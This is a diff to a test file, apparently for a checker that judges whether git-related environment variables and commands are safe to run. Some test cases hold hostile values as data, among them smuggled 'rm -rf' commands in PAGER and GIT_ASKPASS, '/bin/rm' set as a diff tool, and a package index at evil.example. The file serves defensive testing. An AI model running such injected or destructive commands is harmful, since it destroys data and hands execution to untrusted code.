@@ -48,6 +48,15 @@ describe.each([
       LESSOPEN: "| /usr/bin/lesspipe %s",
     },
   ],
+  [
+    "tools of one's own by their paths",
+    {
+      GIT_EDITOR: "/opt/homebrew/bin/hx",
+      PAGER: "/home/dev/.cargo/bin/moar -style",
+      GIT_EXTERNAL_DIFF: "/usr/bin/difft",
+      GIT_SEQUENCE_EDITOR: "/usr/local/bin/rebase-editor --wait",
+    },
+  ],
   ["a key for work", { GIT_SSH_COMMAND: "ssh -i ~/.ssh/work_key -o IdentitiesOnly=yes" }],
   ["a mirror of packages", { PIP_INDEX_URL: "https://pypi.acme.example/simple" }],
 ])("beside the variables of %s", (_, env) => {
@@ -76,6 +85,12 @@ describe("what git is made to run is looked at", () => {
     ["no program that asks", { GIT_ASKPASS: "/usr/bin/python3" }, "git fetch"],
     ["a module of the workspace", { GIT_SSH_COMMAND: "/usr/bin/python3 -mevil" }, "git fetch"],
     ["a program that deletes", { GIT_EXTERNAL_DIFF: "/bin/rm" }, "git diff"],
+    ["an editor of the workspace", { GIT_EDITOR: "/home/dev/app/bin/edit" }, "git commit"],
+    ["an editor set by the act", { GIT_EDITOR: "/opt/bin/hx" }, "GIT_EDITOR=/opt/bin/other git commit"],
+    ["an editor given by the call", { GIT_EDITOR: "/opt/bin/hx" }, "git -c core.editor=/opt/bin/other commit"],
+    ["a pager anybody may write", { PAGER: "/tmp/pager" }, "git log"],
+    ["a pager and a command", { PAGER: "/usr/bin/moar; rm -rf src" }, "git log"],
+    ["an editor written by the act", { GIT_EDITOR: "/opt/bin/hx" }, "cp x /opt/bin/hx; git commit"],
     ["more than a path", { GIT_ASKPASS: "/bin/sh -c x" }, "git fetch"],
     ["two commands", { GIT_ASKPASS: "/usr/bin/ssh;rm -rf x" }, "git fetch"],
     ["a mirror set by the act", {}, "PIP_INDEX_URL=https://evil.example/simple python3 -m tox"],
